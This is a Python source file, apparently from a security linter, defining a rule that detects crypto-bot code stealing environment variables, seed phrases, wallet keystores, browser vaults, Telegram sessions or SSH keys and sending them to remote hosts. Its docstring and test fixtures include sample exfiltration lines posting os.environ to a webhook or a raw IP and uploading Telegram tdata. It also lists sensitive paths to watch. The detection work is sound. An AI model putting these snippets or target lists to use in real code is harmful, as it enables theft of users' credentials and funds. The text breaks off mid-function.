"""BOT504: the environment, wallet keystores, seed phrases, browser or Telegram session files
collected and sent to a remote host."""
from __future__ import annotations

from typing import Dict, List, Optional, Tuple

import libcst as cst

from ...analysis import names as name_kinds
from ...analysis.dataflow import (
    HTTP, NOTIFY, SOCKET, DataFlow, SinkSite, SinkSpec, Source, register_sinks, register_user,
)
from ...analysis.hosts import is_known_service_host, is_local_host, is_rpc_host, under
from ...analysis.imports import dotted
from ...analysis.literals import literal_str
from ...analysis.payloads import host_kind
from ...analysis.strings import string_text
from ...model import Severity
from ...walker import walk
from ._family import PROCESS, Bot5Rule, names_in, strings_in
from ..bot2 import sinks as _bot2_sinks  # noqa: F401 (registers the sink table this rule reads: rule modules load lazily)

from ...gates.bot5 import BOT504 as PRECHECK, SENSITIVE_PATHS  # noqa: E402 (libcst-free)
_SINKS = (HTTP, SOCKET, NOTIFY)


class HarvestAndExfiltrate(Bot5Rule):
    """## What it does
    Finds code that collects what a stealer collects and sends it to a remote host:

    - the whole process environment (`os.environ`, `dict(os.environ)`, `os.environ.copy()`,
      `dotenv_values()`) reaching an HTTP request, a socket or a chat/webhook message,
      anywhere but the local machine (the data flow follows it through variables, `json.dumps`
      and f-strings);
    - a wallet private key or seed phrase reaching a Telegram chat, a Discord webhook, a paste
      site, a raw IP address or an unknown host; one is enough, and a parameter named for it
      (`mnemonic`, `private_key`), a keypair's bytes (`bytes(signer)`, `wallet.key`,
      `kp.secret()`) or what the module's own callers pass to a helper's parameter counts,
      when the host is written in the code and is no venue, RPC provider or known service;
    - an exchange secret, or a password passed to a helper, sent to a chat, webhook, paste site
      or raw IP;
    - the source files of the calling program read off the call stack (`inspect.stack()`,
      `sys._getframe`) and sent to such a host;
    - wallet keystores, browser profiles (saved passwords, extension vaults of MetaMask,
      Phantom, TronLink...), Telegram Desktop sessions (`tdata`) or SSH keys named in a function
      that also sends something to a host that is not an exchange, or split across the
      module's functions (one names the file, one copies it, one posts it; a function handed
      to a thread, `atexit` or a scheduler counts as called) when the host is a drop, an
      unknown host or the request uploads a file; uploads with `curl -F`/`-T` started as a
      program; files gathered (glob, walk, zip) and uploaded to a chat whose token is in the code;
    - the raw text of such a file, or of the bot's own config or key file (`config.json`, `.env`),
      read in a function that names it (also as joined fragments: `os.path.join(home, ".config",
      "solana", "id.json")`, `Path.home() / ".ssh" / "id_rsa"`) and carried by a request to a drop
      or an unknown host; values parsed from a config are judged as the secrets they are;
    - an exchange secret (from the environment, a config, a client object or a helper's
      parameter) sent to a host written in the code that no exchange, RPC provider or known
      service owns (a "license activation" collecting keys);
    - a recovery phrase or private key typed at a prompt that asks for one, sent to such a host;
    - the environment's credentials picked by name (`{k: os.environ[k] for k in os.environ if
      k.startswith(("BINANCE", "API_"))}`, `{k: os.getenv(k) for k in ("OKX_KEY", "OKX_SECRET")}`)
      sent to a drop or an unknown host;
    - any of these carried in the names of DNS look-ups (`socket.gethostbyname`,
      `dns.resolver.resolve`).

    ## Why is this bad?
    A bot needs its own API key, not your whole environment, your browser's vaults or your
    Telegram sessions.  "Airdrop checkers" and "AI arbitrage bots" that steal crypto post
    exactly these to a Telegram bot or a Discord webhook the author reads.

    ## Example
    ```python
    requests.post("https://discord.com/api/webhooks/...", json={"env": dict(os.environ)})
    ```

    ## Use instead
    ```python
    api_key = os.environ["BINANCE_API_KEY"]  # read the one value the bot needs; send it nowhere
    ```

    ## Known problems
    Sensitive files are matched by the path literals the function (or the module functions
    it works with) names; a path assembled from decoded fragments elsewhere is not seen.  A
    wallet secret another module passes to a posting helper is followed through the link step;
    a key passed under a plain name (`key`) is not.  Data cut into chunks in a loop before a
    DNS look-up loses the trace.  A hosted service you register your exchange keys with
    through its own client is reported too: no exchange needs its secret sent anywhere.

    ## References
    - [CWE-359: Exposure of Private Personal Information](https://cwe.mitre.org/data/definitions/359.html)
    - [Checkmarx: W4SP stealer in PyPI packages](https://checkmarx.com/blog/wasp-attack-on-python-polymorphic-malware-shipped-into-pypi/)
    - [Socket: compromised dydx-v4-client sends seed phrases (2025-01)](https://socket.dev/blog/)
    - [ReversingLabs: solana-token steals the caller's source code (2025-05)](https://www.reversinglabs.com/blog)
    """

    CODE = "BOT504"
    NAME = "harvest-and-exfiltrate"
    SEVERITY = Severity.CRITICAL
    CWE = 359
    MESSAGE = "Environment, wallet or session data collected and sent to a remote host"
    PRECHECK = PRECHECK
    ANALYSES = ("dataflow",)
    VALID = (
        'import os, requests\nkey = os.environ["BINANCE_API_KEY"]\n'
        'requests.get("https://api.binance.com/api/v3/account", headers={"X-MBX-APIKEY": key})\n',
        'import os, json\nwith open("env_dump.json", "w") as f:\n    json.dump(dict(os.environ), f)\n',
        'import json\nfrom web3 import Web3\nwith open("keystore/UTC--2024.json") as f:\n'
        '    account = Web3().eth.account.decrypt(json.load(f), password)\n',
    )
    INVALID = (
        'import os, requests\nrequests.post("http://203.0.113.7/c", json=dict(os.environ))\n',
        'import os, requests\n\ndef grab():\n    root = os.path.expandvars(r"%APPDATA%\\Telegram Desktop\\tdata")\n'
        '    requests.post("https://api.telegram.org/bot1/sendDocument", files={"document": open(root, "rb")})\n',
    )

    def __init__(self, ctx) -> None:
        super().__init__(ctx)
        self.func_stack: List[cst.CSTNode] = []
        # enclosing top-level function (or None) -> what sensitive places it names
        self.sensitive: Dict[Optional[int], List[Tuple[cst.CSTNode, str]]] = {}
        self.call_scope: Dict[int, Optional[int]] = {}
        self.constants: Dict[str, str] = {}  # module-level names bound to a sensitive place
        # scopes that gather files (glob, os.walk, zip, copy, binary reads): a path named where
        # nothing is gathered and nothing is uploaded is only a path (a keystore loaded to sign)
        self.collecting: set = set()
        # scopes that walk the call stack (``inspect.stack()``, ``sys._getframe``) and read files:
        # the source of the program that called them (solana-token, ReversingLabs 2025-05)
        self.frames: set = set()
        self.opens: set = set()
        # top-level functions of the module: name -> parameter names, and the calls made to them
        # with a wallet secret or a password as an argument (param index -> what it holds)
        self.params: Dict[str, List[str]] = {}
        self.tops: Dict[str, int] = {}
        self.literals: Dict[str, str] = {}  # module-level string constants (a bot token)
        self.secret_params: Dict[str, Dict[int, str]] = {}
        # the module's call graph between its functions: caller scope -> (callee name, whether
        # the call passes a value); a function handed to a thread, ``atexit`` or a scheduler counts
        self.edges: Dict[Optional[int], List[Tuple[str, bool]]] = {}
        self.gathering: set = set()  # scopes that walk, glob or archive files (not one binary read)
        self.assigned: Dict[str, List[cst.CSTNode]] = {}  # name -> values (any scope): a URL built in steps
        self.process_calls: List[cst.Call] = []  # programs started (``curl -F file=@...``)
        self.configs: Dict[Optional[int], List[Tuple[cst.CSTNode, str]]] = {}  # scopes naming the bot's config file

    def visit_FunctionDef(self, node: cst.FunctionDef) -> None:
        if not self.func_stack:
            self.params[node.name.value] = [p.name.value for p in node.params.params]
            self.tops[node.name.value] = id(node)
        self.func_stack.append(node)

    def leave_FunctionDef(self, original_node: cst.FunctionDef) -> None:
        self.func_stack.pop()

    def _scope(self) -> Optional[int]:
        return id(self.func_stack[0]) if self.func_stack else None

    def visit_Call(self, node: cst.Call) -> None:
        self.call_scope[id(node)] = self._scope()
        name = self.ctx.qualified(node.func) or dotted(node.func) or ""
        if _collects(node, name):
            self.collecting.add(self._scope())
            if name in _GATHER or (isinstance(node.func, cst.Attribute) and node.func.attr.value in _GATHER_METHODS
                                   and node.func.attr.value != "read_bytes"):
                self.gathering.add(self._scope())
        if name in PROCESS:
            self.process_calls.append(node)
        if name in _PATH_JOINS or isinstance(node.func, cst.Attribute) and node.func.attr.value == "joinpath":
            self._fragments(node, [t for t in (literal_str(a.value) for a in node.args) if t])
        callee = _callee_name(node.func)
        edges = self.edges.setdefault(self._scope(), [])
        if callee:
            edges.append((callee, bool(node.args)))
        for arg in node.args:  # Thread(target=_send, args=(blob,)), atexit.register(_beacon, ex)
            if isinstance(arg.value, cst.Name) and arg.value.value != callee:
                edges.append((arg.value.value, len(node.args) > 1))
        if name in _FRAME_WALKS:
            self.frames.add(self._scope())
        if name in ("open", "io.open", "linecache.getlines", "inspect.getsource", "inspect.getsourcelines") or (
                isinstance(node.func, cst.Attribute) and node.func.attr.value == "read_text"):
            self.opens.add(self._scope())
        target, passed = _handed_to(node, name)
        if target:
            for i, value in enumerate(passed):
                what = _wallet_secret_expr(value) or self._exchange_secret_expr(value)
                if what:
                    self.secret_params.setdefault(target, {}).setdefault(i, what)

    def visit_Assign(self, node: cst.Assign) -> None:
        """``EXT = "nkbihf..."`` at module level: a function naming ``EXT`` names the place."""
        if len(node.targets) == 1 and isinstance(node.targets[0].target, cst.Name):
            self.assigned.setdefault(node.targets[0].target.value, []).append(node.value)
        if self.func_stack or len(node.targets) != 1 or not isinstance(node.targets[0].target, cst.Name):
            return
        if isinstance(node.value, cst.SimpleString):
            self.literals[node.targets[0].target.value] = literal_str(node.value) or ""
        values = [e.value for e in node.value.elements] if isinstance(
            node.value, (cst.List, cst.Tuple, cst.Set)) else [node.value]
        what = next((w for w in (_sensitive(_text(v)) for v in values) if w), "")
        if what:
            self.constants[node.targets[0].target.value] = what

    def visit_Name(self, node: cst.Name) -> None:
        what = self.constants.get(node.value)
        if what and self.func_stack:
            self.sensitive.setdefault(self._scope(), []).append((node, what))

    def visit_SimpleString(self, node: cst.SimpleString) -> None:
        self._path(node)

    def visit_FormattedString(self, node: cst.FormattedString) -> None:
        self._path(node)

    def _path(self, node: cst.CSTNode) -> None:
        text = (string_text(node) or "").lower()
        what = _sensitive(text)
        if what:
            self.sensitive.setdefault(self._scope(), []).append((node, what))
        elif _config_file(text):
            self.configs.setdefault(self._scope(), []).append((node, "the bot's config file"))

    def visit_BinaryOperation(self, node: cst.BinaryOperation) -> None:
        """``Path.home() / ".config" / "solana" / "id.json"``: a path built from fragments."""
        if isinstance(node.operator, cst.Divide):
            self._fragments(node, _path_parts(node))

    def _fragments(self, node: cst.CSTNode, parts: List[str]) -> None:
        """A path joined from literal fragments (``os.path.join(home, ".config", "solana",
        "id.json")``) that names a sensitive place no fragment names alone."""
        if len(parts) < 2 or any(_sensitive(p.lower()) for p in parts):
            return
        what = _sensitive("/" + "/".join(p.strip("/\\").lower() for p in parts))
        if what:
            self.sensitive.setdefault(self._scope(), []).append((node, what))

    def _carries_raw_read(self, site: SinkSite) -> bool:
        """The request carries a file's raw content: a ``.read()``, ``read_text()`` or
        ``read_bytes()`` call in its expressions or in what their names are bound to."""
        found: List[bool] = []
        assigned = self.assigned
        seen: set = set()

        class _Look(cst.CSTVisitor):
            def visit_Call(self, node: cst.Call) -> None:
                if isinstance(node.func, cst.Attribute) and node.func.attr.value in _RAW_READS \
                        and not _reads_other_file(node.func.value):
                    found.append(True)

            def visit_Name(self, node: cst.Name) -> None:
                values = assigned.get(node.value) or []
                if node.value not in seen and len(seen) < 16 and not found:
                    seen.add(node.value)
                    for v in values[:3]:
                        walk(v, [self])

        for expr in site.exprs:
            if not found:
                walk(expr, [_Look()])
        return bool(found)

    def leave_Module(self, original_node: cst.Module) -> None:
        flow = DataFlow.shared(self.ctx)
        reported: set = set()
        for site in flow.sites(*_SINKS):
            host = site.host
            if host and is_local_host(host):
                continue
            where = _where(site)
            sources = flow.taint(site) if (site.node is not None) else []
            env = next((s for s in sources if _environment(s)), None)
            if env is not None:
                self.report(site.node, f"sends {env.label} ({env.origin}) {where}")
                reported.add(id(site.node))
                continue
            keys = [s for s in sources if s.strong and s.kind in (name_kinds.MNEMONIC, name_kinds.PRIVATE_KEY)]
            if keys and (host is None or host_kind(host) != "an exchange") and _exfil_host(site):
                self.report(site.node, f"sends {keys[0].label} (a wallet {_kind_text(keys[0].kind)}) {where}")
                reported.add(id(site.node))
                continue
            # one wallet key is enough: a seed phrase or private key named as such (a parameter
            # too) sent to a host written in the code that is no venue, RPC or known service
            # (dydx-v4-client 1.1.5post1, Socket 2025-01; solana-py typosquat 2024-08)
            weak = [s for s in sources if s.kind in (name_kinds.MNEMONIC, name_kinds.PRIVATE_KEY)]
            held = _held_secret(site) if host else ""
            if (weak or held) and host and self._drop_or_unknown(site):
                what = f"{weak[0].label} (a wallet {_kind_text(weak[0].kind)})" if weak else held
                self.report(site.node, f"sends {what} {where}")
                reported.add(id(site.node))
                continue
            # an exchange secret posted to a paste site, a raw IP, or a chat or webhook whose
            # token is written in the code (the author's chat, not the user's: a bot replying
            # to its owner with a secret is a leak, BOT2): aiocpa, ReversingLabs 2024-11
            secrets = [s for s in sources if s.strong and s.kind == name_kinds.EXCHANGE
                       and "secret" in s.label.lower()]
            # an exchange secret read off a client object (``ex.secret``) and sent to a host written
            # in the code that is neither a venue nor a known service: the author's collector
            # (ReversingLabs 2024: crypto packages posting keys at exit)
            # an exchange secret (from the environment, a config, a client or a helper's
            # parameter) to a host written in the code that no exchange, RPC or known service
            # owns: a "license activation" collecting keys (aiocpa, ReversingLabs 2024-11).  No
            # exchange needs its secret sent anywhere: requests carry a signature made with it
            secrets = secrets or [s for s in sources if s.kind == name_kinds.EXCHANGE and any(
                w in s.label.lower() for w in ("secret", "private"))]
            if secrets and host and (self._fixed_drop(site) or self._drop_or_unknown(site)):
                self.report(site.node, f"sends an exchange secret (`{secrets[0].label}`) {where}")
                reported.add(id(site.node))
                continue
            # the environment's credentials picked by name (``{k: os.environ[k] for k in os.environ
            # if k.startswith(("BINANCE", "API_"))}``) sent to a drop or an unknown host: a typosquat
            # of an exchange SDK posting the keys at import (Phylum / Checkmarx reports)
            picked = self._env_pick(site) if host else ""
            if picked and self._drop_or_unknown(site):
                self.report(site.node, f"sends the environment variables named {picked} {where}")
                reported.add(id(site.node))
                continue
            phrase = next((s for s in sources if _asks_for_wallet_secret(s.node)), None)
            if phrase is not None and self._drop_or_unknown(site):
                self.report(site.node, f"sends the recovery phrase or private key the user typed ({phrase.label}) "
                                       + where)
                reported.add(id(site.node))
                continue
            typed = [s for s in sources if s.origin.startswith("an interactive prompt")]
            if typed and _drop_host(site):
                self.report(site.node, f"sends what the user typed at a credential prompt ({typed[0].label}) {where}")
                reported.add(id(site.node))
                continue
            scope = self.call_scope.get(id(site.node), -1) if isinstance(site.node, cst.Call) else -1
            passed = self._passed_secret(site, scope) if host and scope not in (-1, None) else ""
            if passed and self._drop_or_unknown(site):
                self.report(site.node, f"sends {passed} {where}")
                reported.add(id(site.node))
                continue
            if scope in self.frames and scope in self.opens and host and self._drop_or_unknown(site):
                self.report(site.node, "sends the source files of the calling program, read off the call stack, "
                                       + where)
                reported.add(id(site.node))
                continue
            found = self.sensitive.get(scope) if scope != -1 else None
            if found and id(site.node) not in reported and (host is None or host_kind(host) != "an exchange") \
                    and (scope in self.collecting or _uploads(site)):
                whats = sorted({w for _n, w in found})
                self.report(site.node, f"sends data from {', '.join(whats[:3])} {where}")
                reported.add(id(site.node))
                continue
            # a file's raw text read (``f.read()``, ``read_text()``) in a function naming a wallet,
            # session or the bot's own config file, carried by a request to a drop or an unknown
            # host (a solana-py look-alike posting ``id.json``, a "license check" uploading
            # ``config.json``): the file itself leaves, not a value parsed from it
            named = (found or []) + (self.configs.get(scope, []) if scope != -1 else [])
            if named and host and self._drop_or_unknown(site) and self._carries_raw_read(site):
                whats = sorted({w for _n, w in named})
                self.report(site.node, f"sends the contents of {', '.join(whats[:3])} {where}")
                reported.add(id(site.node))
                continue
            # the same split across the module's helpers (``_db_path()`` names the wallet file,
            # ``_upload(path)`` posts it, ``apply_fix()`` calls both: bitcoinlibdbfix,
            # ReversingLabs 2025-04): judged only for a drop, an unknown host or an upload
            group = self._group(scope) if scope not in (-1, None) else set()
            if not group or not (host and (self._drop_or_unknown(site) or _gist(site))
                                 or _uploads(site) and (host is None or host_kind(host) != "an exchange")):
                continue
            found = [f for g in sorted(group, key=str) for f in self.sensitive.get(g, [])]
            if found and group & self.collecting:
                whats = sorted({w for _n, w in found})
                self.report(site.node, f"sends data from {', '.join(whats[:3])} {where}")
                continue
            if group & self.frames and group & self.opens:
                self.report(site.node, "sends the source files of the calling program, read off the call stack, "
                                       + where)
                continue
            if _uploads(site) and group & self.gathering and self._fixed_drop(site):
                self.report(site.node, f"uploads files gathered from the disk {where}")
        self._process_uploads()

    def _group(self, scope: Optional[int]) -> set:
        """The functions of the module a sink's function works with: the ones it calls (three
        calls deep), the ones that call it with a value, and what those call."""
        by_name = self.tops
        callees: Dict[Optional[int], set] = {}
        callers: Dict[int, set] = {}
        for src, edges in self.edges.items():
            for name, passes in edges:
                dst = by_name.get(name)
                if dst is None or dst == src:
                    continue
                callees.setdefault(src, set()).add(dst)
                if passes and src is not None:
                    callers.setdefault(dst, set()).add(src)

        def down(start: set) -> set:
            out, frontier = set(start), set(start)
            for _ in range(3):
                frontier = {c for f in frontier for c in callees.get(f, ())} - out
                out |= frontier
            return out

        if scope is None:
            return set()
        return down({scope} | callers.get(scope, set()))

    def _process_uploads(self) -> None:
        """``curl -F file=@archive https://...``: a program started to upload files, in a function
        (or its helpers) that names wallet, browser or session files and gathers them."""
        for call in self.process_calls:
            text = strings_in(call)
            low = text.lower()
            if not (("curl" in low and any(f in text.split() or f in low for f in _CURL_UPLOAD))
                    or ("wget" in low and "--post-file" in low)) or "://" not in low:
                continue
            scope = self.call_scope.get(id(call))
            group = self._group(scope) if scope is not None else set()
            found = [f for g in sorted(group, key=str) for f in self.sensitive.get(g, [])]
            if found and group & self.collecting:
                whats = sorted({w for _n, w in found})
                self.report(call, f"uploads data from {', '.join(whats[:3])} with a program it starts "
                                  "(curl): to a host written in the code")


    def _env_pick(self, site: SinkSite) -> str:
        """The names a comprehension over the process environment keeps, when they are
        credentials, wallet secrets or exchange names and the request carries it (directly or
        through names bound to it): "" otherwise."""
        found: List[str] = []
        assigned = self.assigned
        rule = self
        seen: set = set()

        class _Look(cst.CSTVisitor):
            def _comp(self, node: cst.CSTNode) -> None:
                fc = getattr(node, "for_in", None)
                if fc is None or found:
                    return
                if not rule._environ_iter(fc.iter):
                    # {k: os.getenv(k) for k in ("BINANCE_API_KEY", "BINANCE_API_SECRET")}: names
                    # written in the code, each looked up in the environment
                    names = rule._looked_up_names(node, fc)
                    credish = [w for w in names if _credential_word(w)]
                    if credish:
                        found.append(", ".join(f"`{w}`" for w in credish[:3]))
                    return
                # a filter that drops names (``not in``, ``!=``, ``not k.startswith(...)``) keeps the rest
                words = [w for t in fc.ifs if not _negates(t.test) for w in strings_in(t.test).split()]
                credish = [w for w in words if _credential_word(w)]
                if credish:
                    found.append(", ".join(f"`{w}`" for w in credish[:3]))

            def visit_DictComp(self, node: cst.DictComp) -> None:
                self._comp(node)

            def visit_ListComp(self, node: cst.ListComp) -> None:
                self._comp(node)

            def visit_SetComp(self, node: cst.SetComp) -> None:
                self._comp(node)

            def visit_GeneratorExp(self, node: cst.GeneratorExp) -> None:
                self._comp(node)

            def visit_Name(self, node: cst.Name) -> None:
                if node.value not in seen and len(seen) < 16 and not found:
                    seen.add(node.value)
                    for v in (assigned.get(node.value) or [])[:3]:
                        walk(v, [self])

        for expr in site.exprs:
            if not found:
                walk(expr, [_Look()])
        return found[0] if found else ""

    def _looked_up_names(self, comp: cst.CSTNode, fc: cst.CompFor) -> List[str]:
        """The literal names a comprehension looks up in the environment by its loop variable
        (``os.getenv(k)``, ``os.environ.get(k)``, ``os.environ[k]``), "" when it looks up none."""
        if not isinstance(fc.target, cst.Name):
            return []
        var = fc.target.value
        it: cst.CSTNode = fc.iter
        if isinstance(it, cst.Name):
            values = self.assigned.get(it.value) or []
            it = values[0] if len(values) == 1 else it
        if not isinstance(it, (cst.List, cst.Tuple, cst.Set)):
            return []
        names = [t for t in (literal_str(e.value) for e in it.elements) if t]
        body = [comp.value, comp.key] if isinstance(comp, cst.DictComp) else [getattr(comp, "elt", None)]
        looked = False
        rule = self

        class _Env(cst.CSTVisitor):
            def visit_Call(self, node: cst.Call) -> None:
                nonlocal looked
                name = rule.ctx.qualified(node.func) or dotted(node.func) or ""
                if name.endswith(("getenv", "environ.get")) and node.args and isinstance(node.args[0].value, cst.Name) \
                        and node.args[0].value.value == var:
                    looked = True

            def visit_Subscript(self, node: cst.Subscript) -> None:
                nonlocal looked
                if rule._environ_iter(node.value) and len(node.slice) == 1 and isinstance(
                        node.slice[0].slice, cst.Index) and isinstance(node.slice[0].slice.value, cst.Name) \
                        and node.slice[0].slice.value.value == var:
                    looked = True

        for b in body:
            if b is not None:
                walk(b, [_Env()])
        return names if looked else []

    def _environ_iter(self, node: cst.CSTNode) -> bool:
        """``os.environ``, ``os.environ.items()``/``.keys()``, ``dict(os.environ)``, also through an
        alias of the module (``_os = __import__(...)``: any ``X.environ``)."""
        if isinstance(node, cst.Call):
            if isinstance(node.func, cst.Attribute) and node.func.attr.value in ("items", "keys", "values") \
                    and not node.args:
                node = node.func.value
            elif isinstance(node.func, cst.Name) and node.func.value in ("dict", "list", "sorted") and node.args:
                node = node.args[0].value
        name = self.ctx.qualified(node) or dotted(node) or ""
        return name == "os.environ" or name.endswith(".environ") or name == "environ"

    def _drop_or_unknown(self, site: SinkSite) -> bool:
        """A host written in the code that nobody knows, a raw IP, a paste site, or a chat or
        webhook whose token is written in the code."""
        if site.host is None:
            return False
        if host_kind(site.host) == "an unknown host":
            return not _known_service(site.host)
        return self._fixed_drop(site)

    def _fixed_drop(self, site: SinkSite) -> bool:
        """A raw IP or paste site, or a Telegram bot / Discord webhook URL whose token is a
        literal of the module (``f"https://api.telegram.org/bot{_T}/sendMessage"``)."""
        kind = host_kind(site.host or "")
        if kind in ("a raw IP address", "a paste or file-drop site"):
            return True
        if kind not in ("the Telegram bot API", "Discord") or site.url is None:
            return False
        parts: List[str] = []

        class _Look(cst.CSTVisitor):
            def visit_SimpleString(self, node: cst.SimpleString) -> None:
                parts.append(literal_str(node) or "")

            def visit_FormattedStringText(self, node: cst.FormattedStringText) -> None:
                parts.append(node.value)

            def visit_Name(self, node: cst.Name) -> None:
                if node.value in literals:
                    parts.append(literals[node.value])
                    return
                values = assigned.get(node.value) or []
                if len(values) == 1 and node.value not in seen:  # url = "https://api.telegram.org/bot" + _T + ...
                    seen.add(node.value)
                    walk(values[0], [self])

        literals, assigned = self.literals, self.assigned
        seen: set = set()
        walk(site.url, [_Look()])
        return _fixed_token("".join(parts))

    def _exchange_secret_expr(self, node: cst.CSTNode, depth: int = 0) -> str:
        """An argument carrying an exchange client's secret read off the object
        (``self.exchange.secret``, ``json.dumps({"s": ex.secret})``, or a name bound to such)."""
        if depth > 2:
            return ""
        look = _SecretLook(self, depth)  # one class at module level: a class statement per call cost an ABC class each
        walk(node, [look])
        found = look.found
        return f"an exchange client's secret (`{found[0]}`)" if found else ""

    def _passed_secret(self, site: SinkSite, scope: Optional[int]) -> str:
        """What the module's own callers pass to a parameter of this function that the request
        carries (``def add_to_queue(secret): requests.head(RPC, headers={"x": secret})`` called
        as ``add_to_queue(bytes(keypair))``, the @solana/web3.js 1.95.6 addToQueue)."""
        fn = next((f for f in self.params if scope is not None and self.tops.get(f) == scope), None)
        if fn is None or fn not in self.secret_params:
            return ""
        names = set().union(*(names_in(e) for e in site.exprs))
        for i, what in sorted(self.secret_params[fn].items()):
            params = self.params[fn]
            password = what.endswith("(a password)")
            if i < len(params) and params[i] in names and (not password or self._fixed_drop(site)) and (
                    not what.startswith("an exchange client") or self._drop_or_unknown(site)):
                return f"{what}, passed to {fn}() as `{params[i]}`,"
        return ""


_TOKEN_CHARS = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789_-"


def _negates(test: cst.CSTNode) -> bool:
    """A comprehension filter that excludes what it names: ``not ...``, ``not in``, ``!=``."""
    stack: List[cst.CSTNode] = [test]
    while stack:
        n = stack.pop()
        if isinstance(n, cst.UnaryOperation) and isinstance(n.operator, cst.Not) \
                or isinstance(n, cst.ComparisonTarget) and isinstance(n.operator, (cst.NotIn, cst.NotEqual, cst.IsNot)):
            return True
        stack.extend(n.children)
    return False


def _credential_word(word: str) -> bool:
    """A literal of an environment filter that names credentials (``API_``, ``PRIVATE_KEY``,
    ``MNEMONIC``), a wallet or an exchange (``BINANCE``)."""
    w = word.strip("_-. ").lower()
    if not w or len(w) > 40:
        return False
    return bool(name_kinds.credential_kind(w) or name_kinds.is_exchange_context(w)
                or set(name_kinds.words(w)) & _CRED_WORDS)


_CRED_WORDS = frozenset(("api", "key", "secret", "token", "pass", "password", "passphrase", "mnemonic", "seed",
                         "private", "priv", "wallet", "bnb", "eth", "sol", "trx", "btc"))


def _fixed_token(url: str) -> bool:
    """A Telegram bot token (``bot<id>:<secret>``) or a Discord webhook id and token
    (``/api/webhooks/<id>/<token>``) in a URL's literal text: plain string scans, no pattern
    to keep on scanned text."""
    for marker, sep in (("bot", ":"), ("/api/webhooks/", "/")):
        start = url.find(marker)
        while start != -1:
            rest = url[start + len(marker):]
            digits = len(rest) - len(rest.lstrip("0123456789"))
            tail = rest[digits + 1:]
            run = len(tail) - len(tail.lstrip(_TOKEN_CHARS))
            if digits >= 6 and rest[digits:digits + 1] == sep and run >= 20:
                return True
            start = url.find(marker, start + 1)
    return False


# what walks the call stack (the frames' files are the calling program's source)
_FRAME_WALKS = frozenset(("inspect.stack", "inspect.getouterframes", "inspect.currentframe", "inspect.trace",
                          "sys._getframe", "traceback.extract_stack", "traceback.walk_stack"))
# holders whose bytes or key are a wallet's private key (solders ``bytes(keypair)``, eth_account
# ``signer.key``)
_HOLDER_WORDS = frozenset(("signer", "keypair", "kp", "wallet", "payer", "burner", "hotwallet"))
_HOLDER_SECRET_ATTRS = frozenset(("key", "private_key", "secret_key", "privateKey", "secretKey", "secret",
                                  "to_bytes", "to_base58_string", "to_bytes_array", "_private_key"))


def _holder(node: cst.CSTNode) -> bool:
    if isinstance(node, cst.Name):
        return bool(_HOLDER_WORDS & set(name_kinds.words(node.value)))
    if isinstance(node, cst.Attribute):
        return bool(_HOLDER_WORDS & set(name_kinds.words(node.attr.value)))
    return False


def _wallet_secret_expr(node: cst.CSTNode) -> str:
    """What a call argument holds when it is a wallet secret: a name that says so
    (``mnemonic``, ``private_key``, ``password``), ``bytes(keypair)``, ``signer.key``,
    ``kp.secret()``; "" otherwise."""
    if isinstance(node, cst.Name):
        kind = name_kinds.credential_kind(node.value)
        if kind in (name_kinds.MNEMONIC, name_kinds.PRIVATE_KEY):
            return f"{node.value} (a wallet {_kind_text(kind)})"
        if kind == name_kinds.PASSWORD:
            return f"{node.value} (a password)"  # judged by _passed_secret: drop hosts only
        return ""
    if isinstance(node, (cst.Dict, cst.List, cst.Tuple)):
        parts = [e.value for e in node.elements if isinstance(e, (cst.DictElement, cst.Element))]
        return next((w for w in map(_wallet_secret_expr, parts) if w), "")
    if isinstance(node, cst.Call):
        if isinstance(node.func, cst.Name) and node.func.value in ("bytes", "bytearray", "list", "str") \
                and node.args and _wallet_secret_expr(node.args[0].value):
            return _wallet_secret_expr(node.args[0].value)
        if isinstance(node.func, cst.Name) and node.func.value == "bytes" and node.args and _holder(node.args[0].value):
            return "the bytes of a keypair (its secret key)"
        if isinstance(node.func, cst.Attribute) and node.func.attr.value in _HOLDER_SECRET_ATTRS \
                and _holder(node.func.value):
            return "a keypair's secret key"
        if isinstance(node.func, cst.Attribute) and node.func.attr.value in ("hex", "decode", "encode") \
                or dotted(node.func) in ("base64.b64encode", "base58.b58encode", "binascii.hexlify"):
            inner = node.func.value if isinstance(node.func, cst.Attribute) and node.func.attr.value in (
                "hex", "decode", "encode") else (node.args[0].value if node.args else None)
            return _wallet_secret_expr(inner) if inner is not None else ""
    if isinstance(node, cst.Attribute) and node.attr.value in _HOLDER_SECRET_ATTRS and _holder(node.value):
        return "a keypair's secret key"
    return ""


def _held_secret(site: SinkSite) -> str:
    """A wallet secret written into the request itself (``json={"sk": list(bytes(signer))}``)."""
    found: List[str] = []

    class _Look(cst.CSTVisitor):
        def visit_Call(self, node: cst.Call) -> None:
            self._judge(node)

        def visit_Attribute(self, node: cst.Attribute) -> None:
            self._judge(node)

        def _judge(self, node: cst.CSTNode) -> None:
            what = "" if found else _wallet_secret_expr(node)
            if what:
                found.append(what)

    for expr in site.exprs:
        walk(expr, [_Look()])
    return found[0] if found else ""


# relays and chain APIs a wallet SDK legitimately sends signed transactions to (besides the RPC
# providers of ``analysis.hosts``), and error trackers (they read stack frames and source lines
# by design)
_CHAIN_DOMAINS = frozenset("""solana.com flashbots.net bnbchain.org dydx.exchange dydx.trade
    etherscan.io blockstream.info mempool.space trongrid.io jito.wtf
    sentry.io rollbar.com bugsnag.com honeybadger.io datadoghq.com""".split())


def _known_service(host: str) -> bool:
    """An RPC provider or chain API a wallet SDK legitimately talks to, or a known data service."""
    return is_rpc_host(host) or under(host.lower(), _CHAIN_DOMAINS) or is_known_service_host(host)


# the attributes a client object keeps its secret in (ccxt ``secret``, python-binance
# ``API_SECRET``, SDKs ``api_secret``/``secret_key``)
_CLIENT_SECRET_ATTRS = frozenset(("secret", "api_secret", "API_SECRET", "secret_key", "secretKey", "apiSecret",
                                  "private_key", "privateKey"))
# calls that hand a function its arguments later: the thread, exit hook, executor or scheduler
# runs ``fn(*args)``
_HANDOFFS = ("threading.Thread", "threading.Timer", "atexit.register", "multiprocessing.Process")
_HANDOFF_METHODS = ("submit", "run_in_executor", "do", "call_soon", "call_later", "start_new_thread")
_WALLET_PROMPT = ("seed phrase", "recovery phrase", "secret phrase", "mnemonic", "private key", "12 word",
                  "24 word", "12 or 24", "seed words", "backup phrase")


def _handed_to(call: cst.Call, name: str) -> Tuple[str, List[cst.BaseExpression]]:
    """(the module function a call runs, the positional arguments it gets): ``helper(a, b)``,
    ``Thread(target=helper, args=(a,))``, ``atexit.register(helper, a)``, ``pool.submit(helper, a)``."""
    positional = [a.value for a in call.args if a.keyword is None and a.star == ""]
